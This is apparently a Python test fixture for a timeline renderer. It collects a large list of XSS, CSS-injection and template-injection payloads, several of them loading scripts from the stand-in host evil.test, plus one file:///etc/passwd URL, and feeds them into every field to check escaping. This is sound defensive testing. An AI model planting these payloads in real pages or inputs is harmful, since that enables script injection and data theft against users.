"""Hostile text: strings that would run, fetch, restyle or break a page that forgot to escape them.

Each `alert` would show as a dialog, each `evil.test` as a request; both are watched.
"""

from __future__ import annotations

from dataclasses import replace

from timeline.model import PublishedFrom, Relation, Status, TLink, Warning
from timeline.result import Conflict, Event, Mention, Source, Timeline

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script/src='http://evil.test/x.js'></script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT\t><script>alert(1)//",
    "</script ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</summary></details><script>alert(1)</script>",
    "</q></blockquote></li></ol><script>alert(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.test/a.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=http://evil.test/a.mp3 autoplay>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://evil.test/x.swf>",
    "<form action=javascript:alert(1)><button autofocus>x",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<a href=javascript:alert(1) id=x tabindex=1 onfocus=alert(1)>x</a>",
)
ATTRIBUTES = (
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onmouseover=alert(1) x=`",
    '\\" onload=alert(1) \\',
    '";alert(1);//',
    "';alert(1);//",
    "\\u003cscript>alert(1)</script>",
    '" style="background:url(http://evil.test/b.png)',
    "&quot;><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#x6a;avascript:alert(1)",
)
STYLES = (
    "</style><style>*{display:none}</style>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "body{background:url(http://evil.test/b.png)}",
    "expression(alert(1))",
    "<div style='position:fixed;inset:0;background:red'>",
    "}*{display:none}/*",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%{customdata[0]}",
    "%{x}<extra></extra>",
    "{0.__class__} {events} %s %d %(x)s",
    "<b>bold</b><br><i>italic</i><sup>2</sup>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='http://evil.test/' target=_blank>x</a>",
    "__proto__",
    "constructor",
    "toString",
)
CHARACTERS = (
    "before\u2028after\u2029end",
    "\u202eevil txt.exe\u202c",
    "\u2066\u2067\u2068 isolates left open",
    "\u200f\u061c\u200e marks",
    "zero\u200bwidth\ufeff\u2060joiners",
    "null\x00byte \x01\x02\x1b[31mred\x1b[0m\x7f",
    "lone surrogate-free \ufffe\uffff non-characters",
    "A\u0300\u0301\u0302\u0303\u0304" * 20,
    "W" * 10_000,
    "😀" * 500,
    "\r\n\t lines\r\rand\ttabs\v\f",
    "مرحبا <script>alert(1)</script> שלום",
    "＜script＞alert(1)＜/script＞",
    "ſcript K İ ı ß",
    "",
    " ",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://evil.test/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "view-source:http://evil.test/",
    "file:///etc/passwd",
    "blob:http://evil.test/1",
    "//evil.test/path",
    "/relative",
    'http://evil.test/" onclick="alert(1)',
    "http://evil.test/'><script>alert(1)</script>",
    "http://user:pass@evil.test:99999/",
    "http://[::1",
    "http:evil.test",
    "https://",
    "https:/\\evil.test",
)
STRINGS = SCRIPTS + HANDLERS + ATTRIBUTES + STYLES + TEMPLATES + CHARACTERS + URLS


def hostile_timeline(strings: tuple[str, ...] = STRINGS) -> Timeline:
    """Put each string through every text of an event, its mention, its source and its trace."""
    days = [f"2025-{1 + i // 28 % 12:02}-{1 + i % 28:02}" for i in range(len(strings))]
    return Timeline(
        title="".join(strings[:8]),
        articles=tuple(_source(i, text) for i, text in enumerate(strings)),
        events=tuple(_event(i, text, day) for i, (text, day) in enumerate(zip(strings, days, strict=True))),
        links=tuple(
            TLink(f"e{i}", f"e{i + 1}", Relation.BEFORE, strings[i]) for i in range(0, len(strings) - 1, 3)
        ),
        warnings=tuple(Warning(text or "code", text, f"a{i}") for i, text in enumerate(strings)),
    )


def _source(i: int, text: str) -> Source:
    return Source(f"a{i}", text, text, text, "en", "2025-01-01", PublishedFrom.GIVEN)


def _event(i: int, text: str, day: str) -> Event:
    quote = f"On Friday they said {text} and left."
    mention = Mention(f"a{i}:e1", f"a{i}", 15, 19, "said", quote, day, None, (text, "Friday is " + text))
    other = replace(mention, id=f"a{i}:e2", text=text, date="2025-12-31")
    return Event(
        id=f"e{i}",
        label=text,
        date=day,
        earliest=day,
        latest=day,
        granularity="day",
        status=tuple(Status)[i % len(Status)],
        stated=True,
        confidence=0.9,
        salience=1 - i / 1000,
        participants=(text, "The council"),
        places=(text,),
        mentions=(mention, other),
        conflicts=(Conflict("2025-12-31", (other.id,)),) if i % 2 else (),
        salience_reasons=(text,),
    )


def hostile_fields() -> Timeline:
    """Put hostile strings where only a forged JSON could have them: ids, dates, granularity, language."""
    bad = '"><script>alert(1)</script>'
    plain = hostile_timeline(("A plain label", "Another"))
    events = tuple(
        replace(event, id=f"{event.id}{bad}", date=bad, earliest=bad, latest=bad, granularity=bad)
        for event in plain.events
    )
    articles = tuple(replace(source, language=bad, published=bad) for source in plain.articles)
    links = (TLink(events[0].id, events[1].id, Relation.BEFORE, bad),)
    return replace(plain, events=events, articles=articles, links=links)
